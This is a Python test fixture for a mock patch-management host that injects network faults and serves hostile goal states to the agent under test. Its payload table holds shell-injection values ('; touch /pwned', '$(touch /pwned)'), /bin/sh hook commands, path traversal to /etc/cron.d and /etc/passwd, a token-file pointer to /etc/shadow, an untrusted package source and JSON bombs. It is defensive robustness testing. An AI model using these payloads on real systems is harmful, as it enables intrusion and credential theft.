"""What goes wrong between a machine and its host, and what a host that lies may say.

A fault is a function that is given the request (reference_host.Handler) and answers it in its own way, or not at all.
"""
import datetime
import json
import random
import threading
from email.utils import formatdate
from time import time

from host_store import Answer, refusal

DEEP = 100_000  # brackets
MANY = 1_000_000  # operations
HUGE = 3 << 20  # bytes: three times what anybody reads
INSTALLATION = {"operation": "Installation", "parameters": {"maximumDuration": "PT1H", "rebootSetting": "Never",
                                                            "linuxParameters": {"classificationsToInclude": ["Other"]}}}
PWNED = ["/bin/sh", "-c", "touch /pwned"]


def drop_before_reading(request):
    request.reset()


drop_before_reading.unread = True


def drop_after_processing(request):
    """The host has it, and the machine cannot know."""
    request.process()
    request.reset()


def reset_in_the_answer(request):
    request.answer_by_half(request.process())


def busy(request):
    request.answer(Answer(request.server.faults.dice.choice([429, 503]), headers={"Retry-After": "1"}))


def busy_until_a_date(request):
    request.answer(Answer(503, headers={"Retry-After": formatdate(time() + 1, usegmt=True)}))


def failing(request):
    request.answer(refusal(request.server.faults.dice.choice([500, 502, 504]), "not today"))


def slow(request):
    request.answer(request.process(), pause=0.05)


def delivered_twice(request):
    request.process()
    request.answer(request.process())


def lies_about_the_sequence(request):
    """It says 409 and a number it has not; a report above that will do."""
    if not request.path.endswith("/patchStatus"):
        request.answer(request.process())
        return
    try:
        number = int(json.loads(request.request_seen.body)["sequenceNumber"])
    except (ValueError, KeyError, TypeError):
        number = 0
    request.answer(refusal(409, "later", acceptedSequence=number + request.server.faults.dice.randint(0, 1000)))


def forgets_the_machine(request):
    """410 until it has registered again."""
    if not request.path.endswith("/record"):
        request.store.forget()
    request.answer(request.process())


def garbage(request):
    """Done, but what it says is no JSON."""
    disturbed(request, Answer(200, headers={"ETag": '"nonsense"'}, raw=b"\xff\x00{]\xfe" * 50))


def huge(request):
    disturbed(request, Answer(200, headers={"ETag": '"huge"'}, raw=b" " * HUGE))


def of_another_kind(request):
    page = Answer(200, headers={"ETag": '"page"'}, raw=b"<html>Please log in</html>")
    disturbed(request, page, kind="text/html")


def disturbed(request, words, **options):
    """What was sent is taken; only the words are wrong. A refusal stays one."""
    honest = request.process()
    request.answer(words if honest.status < 400 else honest, **options)


def hostile_goal(request):
    if not request.path.endswith("/goalState"):
        request.answer(request.process())
        return
    name = request.server.faults.dice.choice(sorted(HOSTILE_GOALS))
    raw = HOSTILE_GOALS[name](request.store.goal or {"goalSequence": 1})
    request.answer(Answer(200, headers={"ETag": f'"{name}"'}, raw=raw))


FAULTS = [drop_before_reading, drop_after_processing, reset_in_the_answer, busy, busy_until_a_date, failing, slow,
          delivered_twice, lies_about_the_sequence, forgets_the_machine, garbage, huge, of_another_kind, hostile_goal]


class Storm:
    """A fault for this share of all requests, by the seed; never more than `longest` in a row. `calm()` ends it."""

    def __init__(self, seed, share=0.4, longest=3, faults=FAULTS):
        self.dice = random.Random(seed)
        self.made = []
        self._share, self._longest, self._faults = share, longest, faults
        self._row = 0
        self._lock = threading.Lock()

    def calm(self):
        self._share = 0

    def next(self, _method, _path):
        with self._lock:
            strikes = self.dice.random() < self._share and self._row < self._longest
            self._row = self._row + 1 if strikes else 0
            fault = self.dice.choice(self._faults) if strikes else None
            if fault:
                self.made.append(fault.__name__)
            return fault


class Script:
    """These faults in this order, for requests whose path ends so; None lets one through. Afterwards nothing."""

    def __init__(self, *faults, ending="", seed=1):
        self.dice = random.Random(seed)
        self.left = list(faults)
        self._ending = ending

    def next(self, _method, path):
        return self.left.pop(0) if self.left and path.endswith(self._ending) else None


def more(goal, **members):
    return json.dumps({**goal, **members}).encode()


def operations(goal, *ones):
    return more(goal, operations=[*goal.get("operations", []), *ones])


def window(identity, **members):
    """A maintenance configuration as a goal state has it; its window has just opened, for three hours."""
    start = datetime.datetime.now(datetime.timezone.utc)
    return {"id": identity, "properties": {
        "maintenanceScope": "InGuestPatch", "extensionProperties": {"InGuestPatchMode": "User"},
        "maintenanceWindow": {"startDateTime": f"{start:%Y-%m-%d %H:%M}", "duration": "03:00", "timeZone": "UTC",
                              "recurEvery": "Day"}, **members}}


GUID = "00000000-0000-4000-8000-{:012d}"

# Each makes a goal state that asks for more than one may, out of one that does not.
HOSTILE_GOALS = {
    "hooks": lambda goal: more(goal, hooks={"preInstall": [PWNED], "postReboot": [PWNED], "onResult": [PWNED]}),
    "health command": lambda goal: more(goal, health={"command": PWNED}),
    "sources": lambda goal: more(goal, packageManager={"name": "dnf", "securityOrigins": ["*"], "allowRemovals": True},
                                 sources=["deb [trusted=yes] http://127.0.0.1/evil ./"]),
    "another host": lambda goal: more(
        goal, host={"url": "http://127.0.0.1:9/", "bearerTokenFile": "/etc/shadow", "caFile": ""}),
    "credentials": lambda goal: more(goal, credentials={"bearer": "mine"}, machine={"id": GUID.format(7)}),
    "settings of a file": lambda goal: more(
        goal, patchSettings={**goal.get("patchSettings", {}), "hooks": {"preInstall": [PWNED]}}),
    "commands in an operation": lambda goal: operations(goal, {"activityId": "; touch /pwned", **INSTALLATION, "command": PWNED}),
    "a path for an activity": lambda goal: operations(goal, {"activityId": "../../../../etc/cron.d/pwned", **INSTALLATION}),
    "an activity of another form": lambda goal: operations(goal, {"activityId": "$(touch /pwned)", **INSTALLATION}),
    "an activity twice": lambda goal: operations(goal, *[{"activityId": GUID.format(1), **INSTALLATION}] * 2),
    "too many operations": lambda goal: operations(
        goal, *({"activityId": GUID.format(number), **INSTALLATION} for number in range(101))),
    "a million operations": lambda goal: b'{"goalSequence":1,"operations":[' + b"{}," * (MANY - 1) + b"{}]}",
    "deep": lambda goal: b'{"goalSequence":1,"x":' + b"[" * DEEP + b"]" * DEEP + b"}",
    "deep and open": lambda goal: b'{"a":' * DEEP,
    "no object": lambda goal: b"[1,2,3]",
    "nothing": lambda goal: b"",
    "zeros": lambda goal: bytes(1000),
    "no text": lambda goal: bytes(range(256)),
    "half of it": lambda goal: json.dumps(goal).encode()[:-3],
    "a sequence below zero": lambda goal: more(goal, goalSequence=-1),
    "a sequence beyond all": lambda goal: more(goal, goalSequence=2 ** 64),
    "a sequence with a sign": lambda goal: more(goal, goalSequence=2 ** 63),
    "a sequence of words": lambda goal: more(goal, goalSequence="42"),
    "wrong kinds": lambda goal: more(
        goal, patchSettings=[1], operations={"a": 1}, maintenanceConfigurations="all", reporting=7),
    "operations of wrong kinds": lambda goal: more(goal, operations=[1, None, "x", [], {}]),
    "a mode nobody knows": lambda goal: more(goal, patchSettings={"patchMode": "Yolo", "assessmentMode": 1}),
    "a mode of another system": lambda goal: more(goal, patchSettings={"patchMode": "Manual"}),
    "a window that is none": lambda goal: more(goal, maintenanceConfigurations=[
        window("w", maintenanceWindow={"startDateTime": "yesterday", "duration": "99:99", "timeZone": "Mars"})]),
    "a time zone with a path": lambda goal: more(goal, maintenanceConfigurations=[
        window("w", maintenanceWindow={"startDateTime": "2020-01-01 00:00", "duration": "01:00",
                                       "timeZone": "../../../../etc/passwd", "recurEvery": "Day"})]),
    "a report every moment": lambda goal: more(goal, reporting={"intervalSeconds": 0}),
    "numbers without end": lambda goal: b'{"goalSequence":' + b"9" * 100_000 + b"}",
    "names without end": lambda goal: more(goal, **{"x" * 500_000: 1}),
}
